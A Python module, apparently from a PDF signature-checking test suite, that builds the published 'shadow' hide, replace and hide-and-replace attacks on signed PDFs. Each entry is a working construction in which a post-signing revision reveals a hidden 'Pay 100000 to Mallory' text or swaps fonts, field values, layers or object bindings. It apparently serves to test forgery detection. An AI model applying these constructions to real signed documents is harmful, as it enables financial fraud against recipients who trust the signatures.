# SPDX-License-Identifier: Apache-2.0
"""Shadow attacks by their published names: the document is made so before it is signed that a small later revision shows something
else. Each gives the objects that the forger prepares, and the later revision made for the signed Victim."""
import forgeries
import pdf_writer
from pdf_reader import Name, Reference
from pdf_writer import stream

PAPER = forgeries.paper()
PAGE = PAPER[3]
WHITE = b"1 g 10 140 280 40 re f"
EVIL = b"BT /F1 18 Tf 20 150 Td (Pay 100000 to Mallory) Tj ET"
SHADOWS = []


class Shadow:
    def __init__(self, family, make, objects):
        self.family, self.name, self.make, self.objects = family, make.__name__, make, objects


def shadow(family, objects):
    def register(make):
        SHADOWS.append(Shadow(family, make, objects))
        return make
    return register


def layered(on):
    """The page with an overlay in a layer."""
    layer = {"Type": Name("OCG"), "Name": b"overlay"}
    content = stream(EVIL + b" /OC /L1 BDC " + WHITE + b" BT 0 g /F1 18 Tf 20 150 Td (Pay 100 to Alice) Tj ET EMC")
    return {1: dict(PAPER[1], OCProperties={"OCGs": [Reference((20, 0))], "D": {"ON" if on else "OFF": [Reference((20, 0))]}}),
            3: dict(PAGE, Resources=dict(PAGE["Resources"], Properties={"L1": Reference((20, 0))})), 4: content, 20: layer}


# ---- hide: what lies over the forger's content is taken away ----

COVERED = {3: dict(PAGE, Contents=[Reference((4, 0)), Reference((20, 0))]), 4: stream(EVIL),
           20: stream(WHITE + b" BT 0 g /F1 18 Tf 20 150 Td (Pay 100 to Alice) Tj ET")}
OVERLAID = {3: dict(PAGE, Annots=[Reference((7, 0)), Reference((20, 0))]), 4: stream(EVIL),
            20: {"Type": Name("Annot"), "Subtype": Name("Stamp"), "Rect": [10, 140, 290, 180], "F": 4, "P": Reference((3, 0)),
                 "AP": {"N": Reference((21, 0))}},
            21: stream(b"1 g 0 0 280 40 re f BT 0 g /F1 18 Tf 10 10 Td (Pay 100 to Alice) Tj ET", Type="XObject", Subtype="Form",
                       BBox=[0, 0, 280, 40], Resources=PAGE["Resources"])}
PICTURED = {4: stream(EVIL + b" q 280 0 0 40 10 140 cm /X1 Do Q"),
            10: stream(b"1 g 0 0 1 1 re f", Type="XObject", Subtype="Form", BBox=[0, 0, 1, 1])}


@shadow("shadow hide", COVERED)
def overlay_content_emptied(victim):
    return pdf_writer.append(victim.data, {20: stream(b"")})


@shadow("shadow hide", COVERED)
def overlay_content_set_free(victim):
    return pdf_writer.append(victim.data, {}, free=[20])


@shadow("shadow hide", COVERED)
def overlay_left_out_of_the_contents(victim):
    return victim.change(victim.page, Contents=Reference((4, 0)))


@shadow("shadow hide", PICTURED)
def overlay_picture_turned_into_another_kind(victim):
    """XObject of a kind that readers do not draw."""
    return pdf_writer.append(victim.data, {10: stream(b"", Type="XObject", Subtype="PS")})


@shadow("shadow hide", OVERLAID)
def overlay_annotation_taken_away(victim):
    return victim.change(victim.page, Annots=[one for one in victim.value(victim.page)["Annots"] if one != Reference((20, 0))])


@shadow("shadow hide", OVERLAID)
def overlay_annotation_hidden(victim):
    return pdf_writer.append(victim.data, {20: dict(OVERLAID[20], F=2)})


@shadow("shadow hide", layered(True))
def overlay_layer_switched_off(victim):
    return victim.change(victim.catalog, OCProperties={"OCGs": [Reference((20, 0))], "D": {"OFF": [Reference((20, 0))]}})


@shadow("shadow hide", layered(True))
def overlay_layer_no_longer_listed(victim):
    return victim.change(victim.catalog, OCProperties=None)


# ---- replace: what is shown stays named, but is something else ----

FONTED = {5: {"Type": Name("Font"), "Subtype": Name("Type1"), "BaseFont": Name("Helvetica"), "Encoding": Reference((20, 0))},
          20: {"Type": Name("Encoding"), "BaseEncoding": Name("WinAnsiEncoding")}}
DEFAULTED = {7: dict(PAPER[7], V=b"100000", AP={"N": Reference((8, 0))})}


@shadow("shadow replace", FONTED)
def font_takes_another_encoding(victim):
    return pdf_writer.append(victim.data, {20: {"Type": Name("Encoding"), "Differences": [49, Name("nine")]}})


@shadow("shadow replace", None)
def font_swapped_for_a_font_of_other_glyphs(victim):
    return pdf_writer.append(victim.data, {victim.font[0]: {"Type": Name("Font"), "Subtype": Name("Type1"), "BaseFont": Name("Symbol")}})


@shadow("shadow replace", DEFAULTED)
def appearance_taken_away_so_that_the_value_shows(victim):
    return pdf_writer.append(victim.data, {7: victim.value(victim.field, AP=None)})


@shadow("shadow replace", DEFAULTED)
def value_drawn_anew_by_readers(victim):
    return victim.change(victim.form, NeedAppearances=True)


def beside(amount, *more):
    """A second field, empty and with an empty picture, which readers are asked to draw together with the first."""
    numbers = [7, 20, *more]
    return {3: dict(PAGE, Annots=[Reference((number, 0)) for number in numbers]),
            6: dict(PAPER[6], Fields=[Reference((number, 0)) for number in numbers]), 7: amount,
            20: dict(PAPER[7], T=b"Beside", V=b"", Rect=[20, 60, 120, 80], AP={"N": Reference((22, 0))}),
            21: {"Type": Name("Annot"), "Subtype": Name("Widget"), "FT": Name("Btn"), "Ff": 65536, "T": b"Button", "F": 4, "P": Reference((3, 0)),
                 "Rect": [20, 20, 120, 40], "DA": b"/Helv 12 Tf 0 g", "MK": {"CA": b"Pay 100000"}, "AP": {"N": Reference((8, 0))}},
            22: stream(b"", Type="XObject", Subtype="Form", BBox=[0, 0, 100, 20]),
            23: {key: value for key, value in dict(PAPER[7], T=b"Unseen", V=b"100000", Rect=[20, 20, 120, 40]).items() if key != "AP"}}


def fill_beside(victim):
    return pdf_writer.append(victim.data, {20: victim.value(Reference((20, 0)), V="同意".encode("utf-16"), AP=None),
                                           victim.form[0]: victim.value(victim.form, NeedAppearances=True)})


@shadow("shadow replace", beside(DEFAULTED[7]))
def value_drawn_anew_beside_one_that_was_filled(victim):
    return fill_beside(victim)


@shadow("shadow replace", beside(PAPER[7], 23))
def value_drawn_for_the_first_time_beside_one_that_was_filled(victim):
    return fill_beside(victim)


@shadow("shadow replace", beside(PAPER[7], 21))
def caption_drawn_beside_a_value_that_was_filled(victim):
    return fill_beside(victim)


@shadow("shadow replace", None)
def appearance_exchanged_and_value_kept(victim):
    return pdf_writer.append(victim.data, {victim.field_form[0]: stream(
        b"BT /Helv 12 Tf 2 4 Td (100000) Tj ET", Type="XObject", Subtype="Form", BBox=[0, 0, 100, 20], Resources={"Font": {"Helv": Reference((5, 0))}})})


@shadow("shadow replace", layered(False))
def hidden_layer_switched_on(victim):
    return victim.change(victim.catalog, OCProperties={"OCGs": [Reference((20, 0))], "D": {"ON": [Reference((20, 0))]}})


# ---- hide and replace: a second document lies in the file, and the later revision binds numbers anew ----

SECOND = {20: dict(PAGE, Contents=Reference((21, 0)), Annots=[]), 21: stream(EVIL),
          22: {"Type": Name("Pages"), "Kids": [Reference((20, 0))], "Count": 1},
          23: dict(PAPER[1], Pages=Reference((22, 0)))}


def rebind(victim, number, to):
    """A later section that binds `number` to what the signed object `to` says, letter by letter."""
    found = victim.document.object(to)
    body = victim.data[found.start:found.end].replace(b"%d 0 obj" % to, b"%d 0 obj" % number, 1)
    return pdf_writer.append(victim.data, {number: body[body.index(b"obj") + 3:body.rindex(b"endobj")].strip()})


@shadow("shadow hide-and-replace", SECOND)
def page_number_bound_to_the_hidden_page(victim):
    return rebind(victim, victim.page[0], 20)


@shadow("shadow hide-and-replace", SECOND)
def content_number_bound_to_the_hidden_content(victim):
    return pdf_writer.append(victim.data, {victim.contents[0]: stream(EVIL)})


@shadow("shadow hide-and-replace", SECOND)
def page_list_led_to_the_hidden_page(victim):
    return victim.change(victim.pages, Kids=[Reference((20, 0)), Reference((12, 0))])


@shadow("shadow hide-and-replace", SECOND)
def catalog_led_to_the_hidden_pages(victim):
    return victim.change(victim.catalog, Pages=Reference((22, 0)))


@shadow("shadow hide-and-replace", SECOND)
def trailer_led_to_the_hidden_catalog(victim):
    return pdf_writer.append(victim.data, {}, {"Root": Reference((23, 0))})


@shadow("shadow hide-and-replace", SECOND)
def page_led_to_the_hidden_content(victim):
    return victim.change(victim.page, Contents=Reference((21, 0)))
